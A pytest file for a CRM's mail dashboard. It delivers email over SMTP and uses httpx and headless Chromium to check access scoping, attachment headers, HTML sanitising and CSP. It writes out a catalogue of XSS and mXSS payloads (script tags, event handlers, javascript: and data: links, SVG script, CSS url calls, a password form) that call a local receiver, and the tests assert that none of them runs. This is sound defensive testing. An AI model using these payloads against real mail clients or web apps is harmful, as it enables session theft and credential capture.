"""The dashboard's mail pages through the running server, on SQLite and PostgreSQL.

Mail goes in through the dropbox over real SMTP; the pages are read with httpx
(404s, headers, scoping) and in Debian's headless Chromium (what a user sees, and
that no script of a hostile email ever runs: a payload would change
``document.title`` or call a test receiver, and the CSP reports what was blocked).
"""

from __future__ import annotations

import base64
import http.server
import re
import smtplib
import threading
import time
import uuid
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path
from typing import Any

import pytest

from gateway.mailview import html as safe_html
from gateway.web.pages import CSP_REPORTS
from storage import events, payloads
from tests.support.browser import chromium_browser
from tests.support.server import wait_until
from tests.support.web import login, login_in_browser, new_member, with_password

ARTIFACTS = Path(__file__).parent / "artifacts"
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"
#: A real 1×1 PNG (the cid: image must decode in the browser).
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
TITLE_MARK = "pwned"


class Receiver:
    """An HTTP server a hostile payload would call: every request it gets is a failure."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _hit(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _hit

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def hostile_html(r: str) -> str:
    """Script, handlers, ``javascript:`` links, SVG with script and CSS tricks, all
    aimed at ``document.title`` and at the receiver ``r``."""
    set_title = f"document.title='{TITLE_MARK}'"
    return f"""<html><head>
<meta http-equiv="refresh" content="0;url={r}/refresh">
<style>body{{background:url({r}/css-bg)}} @import url({r}/css-import);</style>
<link rel="stylesheet" href="{r}/css-link">
<script>{set_title};fetch('{r}/script')</script>
<script src="{r}/script-src"></script>
</head><body onload="{set_title};fetch('{r}/body-onload')">
<p id="text" style="background:url({r}/style-attr)">本文です。お見積りをお送りします。</p>
<img src="x" onerror="{set_title};fetch('{r}/onerror')">
<img src="{r}/pixel.gif" alt="pixel">
<img src="cid:logo@acme" alt="logo" id="logo">
<a id="jslink" href="javascript:{set_title};fetch('{r}/js-link')">click me</a>
<a href="data:text/html,<script>fetch('{r}/data-link')</script>">data link</a>
<a href="https://acme.example/page">good link</a>
<svg onload="fetch('{r}/svg-onload')"><script>fetch('{r}/svg-script')</script>
<a xlink:href="javascript:fetch('{r}/svg-link')"><text>svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('{r}/mxss')"></style></mglyph></table></mtext></math>
<iframe src="{r}/frame"></iframe><object data="{r}/object"></object><embed src="{r}/embed">
<form action="{r}/form" method="post"><input name="password"><button id="go">go</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="fetch('{r}/hover')"></div>
</body></html>"""


def headers(msg, frm: str, to: str, subject: str) -> None:
    msg["From"] = frm
    msg["To"] = to
    msg["Subject"] = Header(subject, "utf-8")
    msg["Message-ID"] = f"<{uuid.uuid4().hex}@acme.co.jp>"


def hostile_mail(frm: str, to: str, receiver: str) -> bytes:
    msg = MIMEMultipart("mixed")
    headers(msg, frm, to, "XSS お見積り")
    related = MIMEMultipart("related")
    alternative = MIMEMultipart("alternative")
    alternative.attach(MIMEText("テキスト版です", "plain", "utf-8"))
    alternative.attach(MIMEText(hostile_html(receiver), "html", "utf-8"))
    related.attach(alternative)
    logo = MIMEImage(PNG, "png")
    logo["Content-ID"] = "<logo@acme>"
    logo.add_header("Content-Disposition", "inline", filename="logo.png")
    related.attach(logo)
    msg.attach(related)
    pdf = MIMEApplication(PDF, "pdf")
    pdf.add_header("Content-Disposition", "attachment", filename=("utf-8", "", "見積書.pdf"))
    msg.attach(pdf)
    page = MIMEText(f"<script>fetch('{receiver}/attachment')</script>", "html", "utf-8")
    page.add_header("Content-Disposition", "attachment", filename="page.html")
    msg.attach(page)
    return msg.as_bytes()


def text_mail(frm: str, to: str, subject: str) -> bytes:
    msg = MIMEText("お世話になっております。\n<b>太字ではない</b>", "plain", "utf-8")
    headers(msg, frm, to, subject)
    return msg.as_bytes()


def deliver(gate, raw: bytes, rcpt: str, mail_from: str) -> None:
    with smtplib.SMTP("127.0.0.1", gate.smtp_port, timeout=30) as s:
        s.sendmail(mail_from, [rcpt], raw)


async def _as_polled(gate, email_id: int, frm: str, name: str) -> None:
    """Make a filed email look polled from the owner's mailbox (the inbox reads those)."""
    from sqlalchemy import update

    from storage.schema import messages

    async with gate.db.begin() as conn:
        await conn.execute(
            update(messages)
            .where(messages.c.id == email_id)
            .values(source="imap", direction="incoming", from_addr=frm, from_name=name)
        )


async def _signal(gate, org_id: int, user_id: int, email_id: int, lead_id: int, subject: str):
    async with gate.db.begin() as conn:
        await events.append(
            conn,
            [
                payloads.email_filed(
                    org_id,
                    message_pk=email_id,
                    header_message_id=None,
                    user_id=user_id,
                    direction="incoming",
                    source="imap",
                    subject=subject,
                    records=[("leads", lead_id)],
                )
            ],
        )


@pytest.fixture(scope="module")
def gate(mailgate):
    return mailgate


@pytest.fixture(scope="module")
def receiver():
    r = Receiver()
    yield r
    r.close()


@pytest.fixture(scope="module")
def mail(gate, receiver):
    org, owner = new_member(gate)
    _, colleague = new_member(gate, admin_user=False, org=org)
    _, stranger = new_member(gate)
    api = gate.api(owner)
    tag = uuid.uuid4().hex[:6]
    customer = f"hanako@{tag}.customer.example.jp"
    lead = api.post(
        "/api/v1/leads", json={"last_name": "佐藤", "first_name": "花子", "email": customer}
    ).json()
    frm = owner["email"]
    deliver(gate, hostile_mail(frm, customer, receiver.url), owner["dropbox_address"], frm)
    deliver(gate, text_mail(frm, customer, "テキストのみ"), owner["dropbox_address"], frm)
    deliver(gate, text_mail(frm, customer, "受信トレイ"), owner["dropbox_address"], frm)
    gate.settle()

    def filed() -> list[dict]:
        r = api.get(f"/api/v1/leads/{lead['id']}/emails")
        assert r.status_code == 200, r.text
        return r.json()["items"]

    wait_until(lambda: len(filed()) >= 3)
    ids = {e["subject"]: e["id"] for e in filed()}
    gate.call(_as_polled(gate, ids["受信トレイ"], customer, "佐藤 花子"))
    ARTIFACTS.mkdir(exist_ok=True)
    return {
        "org": org,
        "owner": owner,
        "colleague": colleague,
        "stranger": stranger,
        "api": api,
        "lead": lead,
        "ids": ids,
        "xss": ids["XSS お見積り"],
    }


def titles_ok(page) -> None:
    assert TITLE_MARK not in page.title()
    for frame in page.frames:
        assert TITLE_MARK not in frame.evaluate("document.title")


# -- httpx: scoping, 404s, headers ---------------------------------------------------------


def test_another_orgs_email_record_and_attachment_are_404_pages(gate, mail):
    stranger = login(gate, mail["stranger"], **{"Accept-Language": "en"})
    eid, lead = mail["xss"], mail["lead"]["id"]
    for path in (
        f"/emails/{eid}",
        f"/emails/{eid}/body",
        f"/emails/{eid}/attachments/0",
        f"/records/leads/{lead}",
        "/emails/999999999",
        "/emails/１",
        "/records/users/1",
        f"/emails/{eid}/attachments/x",
    ):
        r = stranger.get(path)
        assert r.status_code == 404, (path, r.status_code)
        assert "There is no such page, or you may not see it." in r.text
    owner = login(gate, mail["owner"])
    assert owner.get(f"/emails/{eid}/attachments/99").status_code == 404


def test_a_colleagues_private_mail_is_404_and_leaves_the_record_list(gate, mail):
    eid, lead = mail["xss"], mail["lead"]["id"]
    colleague = login(gate, mail["colleague"])
    assert colleague.get(f"/emails/{eid}").status_code == 200  # public by default
    assert f'href="/emails/{eid}"' in colleague.get(f"/records/leads/{lead}").text
    r = mail["api"].put(f"/api/v1/users/{mail['owner']['id']}/sharing", json={"mode": "private"})
    assert r.status_code == 200, r.text
    try:
        for path in ("", "/body", "/attachments/0"):
            assert colleague.get(f"/emails/{eid}{path}").status_code == 404, path
        listing = colleague.get(f"/records/leads/{lead}")
        assert listing.status_code == 200 and f'href="/emails/{eid}"' not in listing.text
        assert login(gate, mail["owner"]).get(f"/emails/{eid}").status_code == 200
    finally:
        mail["api"].put(f"/api/v1/users/{mail['owner']['id']}/sharing", json={"mode": "public"})


def test_attachments_are_the_apis_bytes_and_headers(gate, mail):
    eid = mail["xss"]
    client = login(gate, mail["owner"])
    listing = mail["api"].get(f"/api/v1/emails/{eid}").json()["attachments"]
    for item in listing:
        n = item["index"]
        ours = client.get(f"/emails/{eid}/attachments/{n}")
        theirs = mail["api"].get(f"/api/v1/emails/{eid}/attachments/{n}")
        assert ours.status_code == theirs.status_code == 200
        assert ours.content == theirs.content
        for name in (
            "content-type",
            "content-disposition",
            "x-content-type-options",
            "content-security-policy",
        ):
            assert ours.headers[name] == theirs.headers[name], name
    page_html = next(a for a in listing if a["filename"] == "page.html")
    r = client.get(f"/emails/{eid}/attachments/{page_html['index']}")
    assert r.headers["content-type"].startswith("application/octet-stream")


def test_the_body_is_the_sanitised_html_under_its_own_strict_policy(gate, mail):
    eid = mail["xss"]
    client = login(gate, mail["owner"])
    r = client.get(f"/emails/{eid}/body")
    assert r.status_code == 200
    policy = r.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "img-src 'self' data:;" in policy
    assert "script-src" not in policy and "unsafe-inline" not in policy
    assert "sandbox allow-same-origin allow-popups" in policy and "allow-scripts" not in policy
    assert "frame-ancestors 'self'" in policy and r.headers["x-frame-options"] == "SAMEORIGIN"
    body = r.text.lower()
    for gone in ("<script", "onerror", "onload", "javascript:", "<style", "style=", "<svg"):
        assert gone not in body, gone
    assert "pixel.gif" not in body
    assert re.search(rf'src="/emails/{eid}/attachments/\d+"', r.text)  # cid: → our route
    shown = client.get(f"/emails/{eid}/body?images=1")
    assert "img-src 'self' data: https:;" in shown.headers["content-security-policy"]
    assert "pixel.gif" in shown.text
    page = client.get(f"/emails/{eid}")
    assert 'sandbox="allow-same-origin allow-popups allow-popups-to-escape-sandbox"' in page.text
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]


def test_a_text_only_email_is_escaped_text(gate, mail):
    client = login(gate, mail["owner"])
    r = client.get(f"/emails/{mail['ids']['テキストのみ']}")
    assert r.status_code == 200 and "<iframe" not in r.text
    assert "&lt;b&gt;太字ではない&lt;/b&gt;" in r.text


def test_record_filters_are_the_apis_and_a_bad_one_is_a_422_page(gate, mail):
    lead = mail["lead"]["id"]
    client = login(gate, mail["owner"], **{"Accept-Language": "en"})
    everything = client.get(f"/records/leads/{lead}").text
    assert all(f'href="/emails/{i}"' in everything for i in mail["ids"].values())
    incoming = client.get(f"/records/leads/{lead}", params={"direction": "incoming"}).text
    assert f'href="/emails/{mail["ids"]["受信トレイ"]}"' in incoming
    assert f'href="/emails/{mail["xss"]}"' not in incoming
    api = mail["api"].get(f"/api/v1/leads/{lead}/emails", params={"source": "crm"}).json()
    crm = client.get(f"/records/leads/{lead}", params={"source": "crm"}).text
    assert len(re.findall(r'<tr data-email="', crm)) == len(api["items"]) == 0
    for bad in ({"source": "fax"}, {"direction": "up"}, {"user": "x"}, {"cursor": "-1"}):
        r = client.get(f"/records/leads/{lead}", params=bad)
        assert r.status_code == 422, bad
        assert "That filter is not valid" in r.text
    assert client.get(f"/records/widgets/{lead}").status_code == 404


def test_a_long_list_pages_with_its_filters_kept(gate, mail, monkeypatch):
    from gateway.web import mail as mail_pages

    monkeypatch.setattr(mail_pages, "RECORD_PAGE", 2)
    lead = mail["lead"]["id"]
    client = login(gate, mail["owner"], **{"Accept-Language": "en"})
    first = client.get(f"/records/leads/{lead}", params={"user": mail["owner"]["id"]})
    assert "Mail of 佐藤 花子" in first.text  # English page, the org's (ja) name order
    shown = re.findall(r'<tr data-email="(\d+)"', first.text)
    more = re.search(r'<a class="more" href="([^"]+)"', first.text).group(1).replace("&amp;", "&")
    assert len(shown) == 2 and f"user={mail['owner']['id']}" in more
    rest = re.findall(r'<tr data-email="(\d+)"', client.get(f"/records/leads/{lead}{more}").text)
    assert len(rest) == 1 and not set(rest) & set(shown)


def test_the_inbox_is_the_viewers_own_and_the_stream_needs_a_session(gate, mail):
    owner = login(gate, mail["owner"])
    inbox = owner.get("/inbox")
    assert inbox.status_code == 200
    assert f'data-email="{mail["ids"]["受信トレイ"]}"' in inbox.text
    colleague = login(gate, mail["colleague"]).get("/inbox")
    assert f'data-email="{mail["ids"]["受信トレイ"]}"' not in colleague.text
    anonymous = gate.api({"api_token": "nope"})
    r = anonymous.get("/signals/stream")
    assert r.status_code == 401
    r = anonymous.get("/inbox")
    assert r.status_code == 303 and r.headers["location"].startswith("/login?next=/inbox")
    assert owner.post(f"/emails/{mail['xss']}", data={}).status_code == 405


# -- Chromium: what a user sees ------------------------------------------------------------


def browser_page(browser, gate, user):
    context = browser.new_context(locale="ja-JP", accept_downloads=True)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    login_in_browser(page, gate, user)
    return context, page, dialogs


def test_a_hostile_email_is_shown_and_no_script_runs(gate, mail, receiver):
    eid = mail["xss"]
    receiver.hits.clear()
    with chromium_browser() as browser:
        context, page, dialogs = browser_page(browser, gate, mail["owner"])
        page.goto(f"{gate.http_url}/emails/{eid}")
        frame = page.frame_locator("iframe.mail-body")
        frame.get_by_text("本文です").wait_for()
        assert page.locator(".images-blocked").is_visible()
        wait_until(lambda: frame.locator("img[alt=logo]").evaluate("i => i.naturalWidth") == 1)
        frame.get_by_text("click me").click()  # its javascript: href is gone
        frame.locator("body").hover()
        page.screenshot(path=str(ARTIFACTS / "mail_email.png"), full_page=True)
        time.sleep(1)
        titles_ok(page)
        assert dialogs == [] and receiver.hits == []
        # Asked for: remote images appear (this one is http:, not allowed by the policy).
        page.click("a.show-images")
        frame.get_by_text("本文です").wait_for()
        time.sleep(0.5)
        titles_ok(page)
        assert receiver.hits == []
        context.close()


def test_with_the_sanitiser_off_the_frame_and_its_policy_still_run_nothing(
    gate, mail, receiver, monkeypatch
):
    """Defence in depth: the raw hostile HTML in the frame; the sandbox (no allow-scripts)
    and the body's CSP stop it, and the CSP reports are the evidence."""
    monkeypatch.setattr(
        safe_html, "sanitise", lambda html, **_: safe_html.SafeHtml(html, images_blocked=0)
    )
    eid = mail["xss"]
    receiver.hits.clear()
    CSP_REPORTS.clear()
    with chromium_browser() as browser:
        context, page, dialogs = browser_page(browser, gate, mail["owner"])
        page.goto(f"{gate.http_url}/emails/{eid}")
        frame = page.frame_locator("iframe.mail-body")
        frame.get_by_text("本文です").wait_for()
        frame.get_by_text("click me").click()
        frame.locator("body").hover()
        time.sleep(1.5)
        titles_ok(page)
        assert dialogs == []
        assert receiver.hits == [], receiver.hits
        port = receiver.url.rsplit(":", 1)[1]
        wait_until(lambda: any(port in r["blocked-uri"] for r in CSP_REPORTS), timeout=10)
        blocked = {
            r["violated-directive"].split()[0]
            for r in CSP_REPORTS
            if r["document-uri"].endswith(f"/emails/{eid}/body")
        }
        assert {"img-src"} <= blocked and any(d.startswith("style-src") for d in blocked)
        context.close()


def test_the_page_itself_refuses_inline_script(gate, mail):
    """Were anything to reach the page around the frame, its CSP blocks inline script."""
    CSP_REPORTS.clear()
    with chromium_browser() as browser:
        context, page, dialogs = browser_page(browser, gate, mail["owner"])
        page.goto(f"{gate.http_url}/emails/{mail['xss']}")
        page.evaluate(
            """() => document.body.insertAdjacentHTML('beforeend',
                 '<img src="/none" onerror="document.title=\\'pwned\\'">')"""
        )
        time.sleep(0.5)
        titles_ok(page)
        wait_until(
            lambda: any(r["violated-directive"].startswith("script-src") for r in CSP_REPORTS)
        )
        context.close()


def test_attachments_download_in_the_browser(gate, mail, tmp_path):
    eid = mail["xss"]
    with chromium_browser() as browser:
        context, page, _ = browser_page(browser, gate, mail["owner"])
        page.goto(f"{gate.http_url}/emails/{eid}")
        with page.expect_download() as info:
            page.get_by_text("見積書.pdf").click()
        download = info.value
        target = tmp_path / "dl.pdf"
        download.save_as(target)
        assert target.read_bytes() == PDF
        assert download.suggested_filename == "見積書.pdf"
        context.close()


def test_a_records_mail_in_the_browser_with_a_filter(gate, mail):
    lead = mail["lead"]["id"]
    with chromium_browser() as browser:
        context, page, _ = browser_page(browser, gate, mail["owner"])
        page.goto(f"{gate.http_url}/records/leads/{lead}")
        assert page.locator("h1").inner_text() == "佐藤 花子 のメール"
        assert page.locator("tr[data-email]").count() == 3
        page.select_option("select[name=direction]", "incoming")
        page.click("form.filters button[type=submit]")
        page.wait_for_url(re.compile(r"direction=incoming"))
        assert page.locator("tr[data-email]").count() == 1
        page.screenshot(path=str(ARTIFACTS / "mail_record.png"), full_page=True)
        page.click("tr[data-email] a")
        page.wait_for_url(re.compile(r"/emails/\d+$"))
        assert "受信トレイ" in page.locator("h1").inner_text()
        context.close()


def test_the_inbox_columns_and_a_live_signal_in_the_feed(gate, mail):
    org, owner, lead = mail["org"], mail["owner"], mail["lead"]["id"]
    inbox_id = mail["ids"]["受信トレイ"]
    with chromium_browser() as browser:
        context, page, dialogs = browser_page(browser, gate, owner)
        page.goto(f"{gate.http_url}/inbox")
        records = page.locator('section[data-column="records"]')
        assert records.locator(f'li[data-email="{inbox_id}"] .subject').inner_text() == "受信トレイ"
        page.locator("#feed-status").filter(has_text="接続済み").wait_for()
        hostile = "<img src=x onerror=\"document.title='pwned'\">新着"
        gate.call(_signal(gate, org["id"], owner["id"], inbox_id, lead, hostile))
        item = page.locator("#signal-feed li.signal-received")
        item.wait_for(timeout=10_000)
        assert item.locator(".subject").inner_text() == hostile  # text, not markup
        assert item.locator(".kind").inner_text() == "受信"
        assert item.locator(".record").get_attribute("href") == f"/records/leads/{lead}"
        assert item.locator(".record").inner_text() == "佐藤 花子"
        titles_ok(page)
        assert dialogs == []
        page.screenshot(path=str(ARTIFACTS / "mail_inbox.png"), full_page=True)
        context.close()


def test_a_colleague_does_not_get_the_owners_private_signal(gate, mail):
    """The feed is the API's stream: sharing rules decide who hears a signal."""
    _, outsider = new_member(gate, admin_user=False, org=mail["org"])
    with_password(gate, outsider)
    # A signal owned by ``owner`` about a lead the outsider does not own: not theirs.
    with chromium_browser() as browser:
        context, page, _ = browser_page(browser, gate, outsider)
        page.goto(f"{gate.http_url}/inbox")
        page.locator("#feed-status").filter(has_text="接続済み").wait_for()
        gate.call(
            _signal(
                gate, mail["org"]["id"], mail["owner"]["id"], mail["ids"]["受信トレイ"],
                mail["lead"]["id"], "他人宛て",
            )
        )  # fmt: skip
        time.sleep(1.5)
        assert page.locator("#signal-feed li").count() == 0
        context.close()
